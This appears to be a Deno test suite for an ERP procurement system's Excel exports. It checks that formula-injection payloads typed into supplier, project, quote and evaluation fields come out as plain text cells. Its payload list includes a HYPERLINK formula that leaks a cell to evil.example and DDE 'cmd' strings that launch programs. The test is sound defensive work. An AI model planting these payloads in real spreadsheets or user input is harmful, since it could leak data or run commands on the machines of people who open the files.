// Formula injection: every .xlsx export keeps text that a spreadsheet would run as a formula
// (starting with = + - @, a tab or a carriage return) as a string cell, shown as typed (no visible
// apostrophe), whoever typed it: a buyer, a supplier in its quote lines, or the ERP. No cell of
// any export is a formula. The supplier's price sheet too.
import ExcelJS from "exceljs";
import { strFromU8, unzipSync } from "fflate";
import { allRoutes } from "../../server/http/routes/index.ts";
import { ADMIN_PASSWORD, call, signIn, testEnv } from "../helpers.ts";
import { agree, pdfFile } from "../http/quotes_fixtures.ts";
import { EV, weightedReady } from "../http/evaluation_fixtures.ts";
import { Tally } from "./support.ts";

const PM = "/QMO/OfferProjectManager";
const HOUR = 3600_000;
/** Monday 2026-11-23 17:00 in UTC+8, the tests' working day. */
const DEADLINE = "2026-11-23T09:00:00.000Z";

const payloads = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
/** A payload shown with an apostrophe before it (the old way of keeping it text). */
const quoted = /^'[=+\-@\t\r]/;

/** The xlsx export routes (every binary route but the attachment download). */
const EXPORTS = [
  `${PM}/GetExportList`,
  "/QMO/Supplier/Export",
  `${PM}/ExportComparisonMatrix`,
  "/QMO/OfferProjectType/GetExportList",
  "/QMO/SupplierOffer/GetPriceSheet",
  "/QMO/Savings/ExportSavingsReport",
];
/** Tested on its own below: a weighted evaluation signed off takes a set-up of its own. */
const EVALUATION_EXPORT = `${EV}/Export`;

Deno.test("every .xlsx export keeps cells that start with = + - @ as text shown as typed, never a formula (formula injection)", async () => {
  await using env = await testEnv();
  const tally = new Tally("formula injection in exports");
  const admin = await signIn(env, "admin", ADMIN_PASSWORD);
  const ok = async (r: Promise<{ status: number; json: { result: unknown } }>, what: string) => {
    const res = await r;
    if (res.status !== 200) throw new Error(`${what}: ${res.status} ${JSON.stringify(res.json)}`);
    // deno-lint-ignore no-explicit-any
    return res.json.result as any;
  };
  const p = (i: number) => payloads[i % payloads.length];

  // Suppliers with a formula in every text field, each with a portal sign-in.
  const suppliers = [];
  for (const i of [0, 1, 2]) {
    const code = `FX${i}`;
    const password = "Portal@2026x";
    const s = await ok(
      call(env, "post", "/QMO/Supplier/CreateSupplierData", {
        token: admin,
        body: {
          code,
          abbrName: p(i),
          fullName: p(i + 1),
          contactPerson: p(i + 2),
          contactNumber: p(i + 3),
          email1: `${code.toLowerCase()}@example.com`,
          createPortalAccount: true,
          password,
        },
      }),
      "supplier",
    );
    suppliers.push({ ...s, token: await signIn(env, code, password) });
  }
  const category = await ok(
    call(env, "post", "/QMO/OfferProjectType/CreateOfferProjectType", {
      token: admin,
      body: { name: p(3), kind: "material" },
    }),
    "category",
  );
  const project = await ok(
    call(env, "post", `${PM}/CreateOfferProjectManagerData`, {
      token: admin,
      body: {
        name: p(0),
        kind: "material",
        category: category.id,
        remark: p(1),
        demandCode: p(2),
        linesRequired: true,
        opiList: [
          { itemName: p(4), unit: p(5), materialCode: p(0), estimateYearAmount: "10" },
          { itemName: p(1), unit: p(2), materialCode: p(3), estimateYearAmount: "5" },
        ],
      },
    }),
    "project",
  );
  await ok(
    call(env, "post", `${PM}/UpdateSupplierOfferProject`, {
      token: admin,
      body: {
        offProManagerId: project.id,
        offerEndTime: DEADLINE,
        supList: suppliers.map((s) => ({ id: s.id, code: s.code })),
      },
    }),
    "publish",
  );
  const items = project.opiList.map((i: { id: number }) => i.id);
  for (const [n, s] of suppliers.slice(0, 2).entries()) {
    await agree(env, s.token, project.id);
    const form = new FormData();
    form.set("offProId", String(project.id));
    form.set("round", "0");
    form.set("file", pdfFile(`quote ${n}`));
    form.set(
      "lines",
      JSON.stringify(items.map((itemId: number) => ({
        itemId,
        unitPrice: String(10 + n),
        taxRate: "13",
        currency: "CNY",
        tradeTerms: "DDP",
        paymentMethod: "TT",
        paymentTermDays: 60,
        leadTimeDays: 14,
        validUntil: "2026-12-31",
        remark: p(n + 2),
      }))),
    );
    await ok(
      call(env, "post", "/QMO/SupplierOffer/Submit", { token: s.token, body: form }),
      "quote",
    );
  }
  env.clock.advance(8 * HOUR);
  await ok(
    call(env, "post", `${PM}/AwardOfferProject`, {
      token: admin,
      body: { offProId: project.id, scope: "project", supplierId: suppliers[0].id, reason: p(0) },
    }),
    "award",
  );

  // Every export route is tried here: a new one must be added above.
  const binary = allRoutes.filter((r) => r.binary && !r.path.endsWith("/GetFileStream"));
  tally.check(
    "export routes",
    JSON.stringify(binary.map((r) => r.path).sort()) ===
      JSON.stringify([...EXPORTS, EVALUATION_EXPORT].sort()),
    `untested export routes: ${
      binary.map((r) => r.path).filter((x) => ![...EXPORTS, EVALUATION_EXPORT].includes(x))
    }`,
  );

  for (const path of EXPORTS) {
    for (const lang of ["en", "zh"] as const) {
      // The price sheet is the supplier's: its items, and its own lines' remarks.
      const sheet = path.endsWith("/GetPriceSheet");
      const r = await call(env, "get", path, {
        token: sheet ? suppliers[0].token : admin,
        lang,
        query: path.endsWith("ComparisonMatrix") || sheet ? { offProId: project.id } : {},
      });
      if (r.status !== 200) {
        tally.check(path, false, `status ${r.status} ${JSON.stringify(r.json)}`);
        continue;
      }
      await checkWorkbook(tally, `${path} ${lang}`, new Uint8Array(await r.res.arrayBuffer()));
    }
  }
  tally.done();
});

/** No cell of the workbook is a formula or shown with an apostrophe, and a payload is there as typed. */
async function checkWorkbook(tally: Tally, what: string, bytes: Uint8Array) {
  for (const [name, part] of Object.entries(unzipSync(bytes))) {
    if (name.startsWith("xl/worksheets/")) {
      tally.check(`${what} ${name}`, !/<f[ >]/.test(strFromU8(part)), "a formula");
    }
  }
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes.buffer as ArrayBuffer);
  let seen = 0;
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value;
        const where = `${what} ${ws.name}!${cell.address}`;
        if (v && typeof v === "object" && "formula" in v) {
          tally.check(where, false, `formula cell ${JSON.stringify(v)}`);
        } else if (typeof v === "string") {
          tally.check(where, !quoted.test(v), `shown with an apostrophe: ${JSON.stringify(v)}`);
          if (payloads.some((x) => v === x || v.endsWith(` ${x}`))) seen++;
        }
      })
    )
  );
  tally.check(what, seen > 0, "no payload cell found");
}

Deno.test("the weighted evaluation's export keeps an evaluator's formula-like comment as text", async () => {
  await using env = await testEnv();
  const tally = new Tally("formula injection in the evaluation export");
  const w = await weightedReady(env);
  const nonPrice = w.criteria.filter((c: { isPrice?: boolean }) => !c.isPrice);
  for (const [n, who] of (["ev1", "ev2"] as const).entries()) {
    const scores = [w.s1, w.s2].flatMap((s) =>
      nonPrice.map((c: { id: number }) => ({
        supplierId: s.supplier.id,
        criterionId: c.id,
        score: 7,
        comment: payloads[n],
      }))
    );
    const saved = await call(env, "post", `${EV}/SaveScores`, {
      token: w[who].token,
      body: { offProId: w.project.id, scores },
    });
    tally.check(`${who} scores`, saved.status === 200, JSON.stringify(saved.json));
    const sent = await call(env, "post", `${EV}/Submit`, {
      token: w[who].token,
      body: { offProId: w.project.id },
    });
    tally.check(`${who} submits`, sent.status === 200, JSON.stringify(sent.json));
  }
  const signed = await call(env, "post", `${EV}/SignOff`, {
    token: w.leader.token,
    body: { offProId: w.project.id },
  });
  tally.check("sign-off", signed.status === 200, JSON.stringify(signed.json));
  for (const lang of ["en", "zh"] as const) {
    const r = await call(env, "get", EVALUATION_EXPORT, {
      token: w.buyer.token,
      lang,
      query: { offProId: w.project.id },
    });
    if (r.status !== 200) {
      tally.check(`${EVALUATION_EXPORT} ${lang}`, false, `status ${r.status}`);
      continue;
    }
    await checkWorkbook(
      tally,
      `${EVALUATION_EXPORT} ${lang}`,
      new Uint8Array(await r.res.arrayBuffer()),
    );
  }
  tally.done();
});
